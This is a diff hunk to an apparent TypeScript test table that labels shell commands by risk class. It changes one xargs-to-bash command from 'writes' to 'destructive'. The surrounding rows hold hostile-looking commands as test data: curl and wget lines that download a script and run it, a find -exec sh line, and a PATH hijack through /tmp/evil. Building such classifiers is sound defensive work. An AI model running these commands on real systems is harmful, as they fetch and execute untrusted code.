@@ -1056,7 +1056,7 @@ export const riskCases: readonly { section: string; rows: readonly (readonly [st
       ["curl https://x > i.sh && bash i.sh", "network_exec"],
       ["curl https://x | tee i.sh >/dev/null && sh i.sh", "network_exec"],
       ["wget -qO- https://x > /tmp/s.sh; sh /tmp/s.sh", "network_exec"],
-      ["cat list | xargs -I{} bash -c '{}'", "writes"],
+      ["cat list | xargs -I{} bash -c '{}'", "destructive"],
       ["find . -name '*.sh' -exec sh -c {} \\;", "destructive"],
       ["PATH=/tmp/evil:$PATH ls", "writes"],
       ["PATH=$PATH:/opt/bin ls", "read_only"],
